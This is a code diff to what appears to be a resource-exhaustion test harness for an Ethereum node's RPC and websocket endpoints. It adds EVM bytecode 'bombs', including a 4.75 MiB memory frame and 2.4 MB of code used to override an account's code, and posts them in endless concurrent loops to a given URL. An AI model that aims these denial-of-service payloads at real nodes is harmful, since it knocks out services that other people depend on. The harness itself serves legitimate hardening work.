@@ -114,6 +114,8 @@ const bombs = {
   blake: `0x7f${rounds}6000525b6040600060d5600060095afa50602456`,
   // 64 KiB touched, then itself again
   memory: `0x600161ffe0526000600060006000600073${"77".repeat(20)}5af100`,
+  // one frame of 4.75 MiB, nearly all that the gas pays for
+  frame: "0x6001624c000052",
 };
 
 const websocket = (url) =>
@@ -232,6 +234,12 @@ export const programs = {
   loops: ({ url }) => forEver(24, () => post(url, callOf(bombs.loop))),
   blakes: ({ url }) => forEver(24, () => post(url, callOf(bombs.blake))),
   memories: ({ url }) => forEver(24, () => post(url, callOf(bombs.memory))),
+  frames: ({ url }) => forEver(24, () => post(url, callOf(bombs.frame))),
+  // 2.4 MB of code that overrides an account's
+  codes: ({ url }) => {
+    const body = callOf(`0x${"5b".repeat(2_400_000)}`);
+    return forEver(24, () => post(url, body));
+  },
   // RP-15, RP-16: subscriptions that are not read, pings, messages over the limit
   websockets: ({ url }) =>
     forEver(16, async () => {
